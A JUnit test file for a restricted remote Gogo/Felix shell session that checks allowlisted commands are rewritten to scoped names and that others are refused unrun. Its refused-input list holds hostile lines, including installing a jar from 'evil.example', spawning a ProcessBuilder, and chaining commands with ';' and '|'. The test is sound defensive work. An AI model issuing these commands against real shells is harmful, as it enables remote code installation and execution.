package dev.serval.kernel.http;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.serval.kernel.api.CommandShell;
import dev.serval.kernel.manage.ManagementCalls;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Which lines a restricted session hands to Gogo, and as what. */
class RestrictedSessionTest {

    private final List<String> ran = new ArrayList<>();
    private final CommandShell.Session gogo = new CommandShell.Session() {
        @Override
        public CommandShell.Outcome execute(String line) {
            ran.add(line);
            return new CommandShell.Outcome("ok\n", false);
        }

        @Override
        public void close() {
            ran.add("closed");
        }
    };

    @Test
    void listedCommandsRunUnderTheirScopedNames() {
        RestrictedSession session = new RestrictedSession(gogo, false);

        for (String line : List.of(
                "serval:list",
                "lb -s",
                "felix:lb",
                "headers 0",
                "help serval:scale",
                "serval:describe digits all",
                "serval:scale digits 2",
                "serval:default digits 2.0")) {
            assertEquals(new CommandShell.Outcome("ok\n", false), session.execute(line), line);
        }
        session.close();

        assertEquals(
                List.of(
                        "serval:list",
                        "felix:lb -s",
                        "felix:lb",
                        "felix:headers 0",
                        "felix:help serval:scale",
                        "serval:describe digits all",
                        "serval:scale digits 2",
                        "serval:default digits 2.0",
                        "closed"),
                ran);
    }

    @Test
    void otherCommandsAreRefusedUnrun() {
        RestrictedSession session = new RestrictedSession(gogo, true);

        for (String line : List.of(
                "exit",
                "install https://evil.example/x.jar",
                "update 0 file:///tmp/x.jar",
                "stop 0",
                "uninstall 1",
                "felix:install x",
                "gogo:eval x",
                "new java.lang.ProcessBuilder",
                "system:getproperties",
                "LB",
                "serval:list2",
                "lb;exec",
                "serval:list | tac",
                "$.context")) {
            CommandShell.Outcome outcome = session.execute(line);
            assertTrue(outcome.failed(), line);
            assertTrue(outcome.output().endsWith("\n"), line);
        }
        assertEquals(List.of(), ran);
        assertTrue(
                session.execute("exit")
                        .output()
                        .startsWith("The remote shell runs only felix:headers, felix:help,"
                                + " felix:lb, headers, help, lb, serval:default,"),
                session.execute("exit").output());
    }

    @Test
    void registerAndUnregisterFollowTheModelApi() {
        RestrictedSession off = new RestrictedSession(gogo, false);
        assertEquals(
                new CommandShell.Outcome(ManagementCalls.MODEL_API_DISABLED + "\n", true),
                off.execute("serval:register digits.mar"));
        assertTrue(off.execute("serval:unregister digits").failed());
        assertEquals(List.of(), ran);

        RestrictedSession on = new RestrictedSession(gogo, true);
        assertEquals(new CommandShell.Outcome("ok\n", false), on.execute("serval:register digits.mar"));
        assertEquals(new CommandShell.Outcome("ok\n", false), on.execute("serval:unregister digits 1.0"));
        assertEquals(List.of("serval:register digits.mar", "serval:unregister digits 1.0"), ran);
    }
}
